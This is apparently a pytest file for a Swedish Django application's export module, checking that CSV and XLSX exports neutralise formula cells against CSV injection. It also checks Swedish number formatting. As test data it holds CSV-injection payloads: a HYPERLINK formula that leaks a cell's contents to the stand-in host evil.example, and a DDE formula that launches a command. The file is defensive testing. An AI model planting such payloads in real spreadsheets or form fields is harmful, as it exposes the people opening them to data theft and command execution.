"""The one export writer neutralises formula cells in CSV and XLSX (OWASP, CSV injection), and
every export goes through it."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from followup import services as followup_services
from lagesbild.imports import parse_measurements_csv
from samverkan.exports import FORMULA_STARTS, Table, csv_response, safe_cell, xlsx_response
from samverkan.numbers import csv_cell
from tests.conftest import client_for

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
DANGEROUS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert text.startswith(FORMULA_STARTS)
    assert safe_cell(text) == "'" + text


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert safe_cell(-5) == -5
    assert safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(None) is None
    assert safe_cell("Trygghetsvandring = bra") == "Trygghetsvandring = bra"


def test_csv_has_no_cell_starting_a_formula():
    table = Table("Loggar", ["Anteckning", "Antal"], [[text, -3] for text in DANGEROUS])
    rows = read_csv(csv_response("x", [table]))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in DANGEROUS]
    assert all(row[1] == "-3" for row in rows[1:])
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row[:1])


def test_xlsx_has_no_formula_and_keeps_negative_numbers_numeric():
    table = Table("Loggar", ["=Rubrik", "Antal"], [[text, -3] for text in DANGEROUS])
    book = load_workbook(io.BytesIO(xlsx_response("x", [table]).content))
    sheet = book["Loggar"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert sheet["A1"].value == "'=Rubrik"
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(DANGEROUS))] == ["'" + text for text in DANGEROUS]
    assert sheet["B2"].value == -3
    assert sheet["B2"].data_type == "n"


def test_followup_export_neutralises_a_log_note_in_both_formats(
    active_lofte, activities, samordnare, police_contact, police_area, kommun
):
    followup_services.log_activity(
        activities[0], actor=police_contact, organization=police_area, done_on=timezone.localdate(), count=1, note=EVIL
    )
    year = timezone.localdate().year
    params = {"start": f"{year}-01-01", "end": f"{year}-12-31", "kommun": kommun.pk}
    client = client_for(samordnare)
    rows = read_csv(client.get(reverse("export"), {**params, "format": "csv"}))
    assert rows[1][8] == "'" + EVIL
    book = load_workbook(io.BytesIO(client.get(reverse("export"), {**params, "format": "xlsx"}).content))
    note = book["Loggar"]["I2"]
    assert note.value == "'" + EVIL
    assert note.data_type == "s"


def test_csv_is_swedish_excel_ready_semicolons_decimal_commas_and_a_byte_order_mark():
    table = Table("Loggar", ["Datum", "Timmar", "Antal"], [[date(2026, 11, 29), Decimal("1.5"), 3]])
    content = csv_response("x", [table]).content
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig").splitlines() == ["Datum;Timmar;Antal", "2026-11-29;1,5;3"]
    assert csv_cell(Decimal("3.0")) == "3"
    assert csv_cell(Decimal("1234.50")) == "1234,5"
    assert csv_cell(-0.25) == "-0,25"
    assert csv_cell(Decimal("NaN")) == ""


def test_what_the_csv_export_writes_the_measurements_import_reads_back():
    values = [Decimal("17.3"), Decimal("12"), Decimal("0.125"), Decimal("1234.5")]
    table = Table(
        "Mätvärden", ["Period", "Värde", "Kommentar"], [[str(2020 + i), v, "ok"] for i, v in enumerate(values)]
    )
    rows = parse_measurements_csv(csv_response("x", [table]).content)
    assert [row.value for row in rows] == values
    assert [row.period_start.year for row in rows] == [2020, 2021, 2022, 2023]


def test_xlsx_keeps_real_numbers_and_dates():
    table = Table("Loggar", ["Datum", "Timmar"], [[date(2026, 11, 29), Decimal("1.5")]])
    sheet = load_workbook(io.BytesIO(xlsx_response("x", [table]).content))["Loggar"]
    assert sheet["A2"].value.date() == date(2026, 11, 29)
    assert sheet["B2"].value == 1.5
    assert sheet["B2"].data_type == "n"


def test_followup_csv_export_writes_hours_with_a_decimal_comma(
    active_lofte, activities, samordnare, police_contact, police_area, kommun
):
    followup_services.log_activity(
        activities[0],
        actor=police_contact,
        organization=police_area,
        done_on=timezone.localdate(),
        count=2,
        hours=Decimal("1.5"),
    )
    year = timezone.localdate().year
    params = {"start": f"{year}-01-01", "end": f"{year}-12-31", "kommun": kommun.pk, "format": "csv"}
    rows = read_csv(client_for(samordnare).get(reverse("export"), params))
    assert rows[1][4:7] == [timezone.localdate().isoformat(), "2", "1,5"]
    expected = [row for row in rows if row and row[1] == "Hastighet och rattfylleri" and len(row) == 6]
    assert expected
    assert "." not in expected[0][4]
